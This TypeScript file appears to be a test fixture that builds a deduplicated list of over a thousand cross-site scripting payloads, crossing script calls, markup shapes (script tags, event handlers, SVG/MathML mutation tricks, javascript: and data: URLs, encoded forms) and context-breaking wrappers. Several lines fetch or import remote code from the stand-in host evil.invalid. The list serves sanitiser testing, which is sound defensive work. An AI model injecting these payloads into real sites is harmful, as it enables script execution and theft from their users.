/** Address of nobody (RFC 2606): a request for it is a request that a pack caused. */
export const evilHost = 'evil.invalid';

const calls = [
  'top.__ran=1',
  "fetch('//evil.invalid/f')",
  'alert(1)',
  "import('//evil.invalid/m.js')",
  "eval('top.__ran=1')",
];

/** Shapes in which markup or an address becomes a script; `@` stands for the call. */
const shapes = [
  '<script>@</script>',
  '<script src=//evil.invalid/s.js></script>',
  '<ScRiPt/x>@</sCrIpT >',
  '<scr<script>ipt>@</scr</script>ipt>',
  '<img src=x onerror=@>',
  '<img src="https://evil.invalid/i.png" srcset="https://evil.invalid/j.png 2x" onload="@">',
  '<IMG """><SCRIPT>@</SCRIPT>">',
  '<svg onload=@>',
  '<svg><script>@</script></svg>',
  '<svg><animate onbegin=@ attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:@"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=@>#x"/></svg>',
  '<svg><foreignObject><body onload=@></foreignObject></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=@>',
  '<math href="javascript:@">x</math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=@ src>">',
  '<noscript><p title="</noscript><img src=x onerror=@>">',
  '<style><!--</style><img src=x onerror=@>-->',
  '<style>@import "//evil.invalid/c.css"; *{background:url(//evil.invalid/b)}</style>',
  '<link rel=stylesheet href=//evil.invalid/l.css>',
  '<link rel=preconnect href=//evil.invalid><link rel=prefetch href=//evil.invalid/p>',
  '<base href=//evil.invalid/>',
  '<meta http-equiv=refresh content="0;url=//evil.invalid/r">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<iframe src=//evil.invalid/f></iframe>',
  '<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>',
  '<iframe src="javascript:@"></iframe>',
  '<object data=//evil.invalid/o></object>',
  '<embed src=//evil.invalid/e>',
  '<video src=//evil.invalid/v poster=//evil.invalid/p onerror=@></video>',
  '<audio src=x onerror=@>',
  '<input autofocus onfocus=@>',
  '<details open ontoggle=@>x</details>',
  '<marquee onstart=@>x</marquee>',
  '<body onload=@>',
  '<form action=//evil.invalid/a><button formaction="javascript:@">x</button></form>',
  '<a href="javascript:@">x</a>',
  '<a href=" &#1;javascript:@">x</a>',
  '<a href="java&#x09;script:@">x</a>',
  '<a href="data:text/html,<script>@</script>">x</a>',
  '<a href="vbscript:@">x</a>',
  '<a href=//evil.invalid/a ping=//evil.invalid/p>x</a>',
  'javascript:@',
  'data:text/html,<script>@</script>',
  '[x](javascript:@)',
  '![x](//evil.invalid/m.png)',
  '<https://evil.invalid/auto>',
  '&lt;script&gt;@&lt;/script&gt;',
  '&#60;img src=x onerror=@&#62;',
  '\\u003cscript\\u003e@\\u003c/script\\u003e',
  '<b style="background:url(//evil.invalid/s)">x</b>',
  '<template><script>@</script></template>',
  '<x contenteditable onblur=@ tabindex=1 autofocus>',
  '<custom-element onclick=@ id=x style=animation-name:x onanimationstart=@>',
  '<plaintext><script>@</script>',
  '<xmp><img src=x onerror=@></xmp>',
] as const;

const wrappings = [
  (text: string) => text,
  (text: string) => `">${text}`,
  (text: string) => `'>${text}<!--`,
  (text: string) => `]]>${text}`,
  (text: string) => `</textarea></title></style></script>${text}`,
] as const;

/** A thousand and more different payloads, always the same ones. */
export const xssPayloads: readonly string[] = [
  ...new Set(
    shapes.flatMap(shape => calls.flatMap(call => wrappings.map(wrap => wrap(shape.replaceAll('@', call))))),
  ),
];
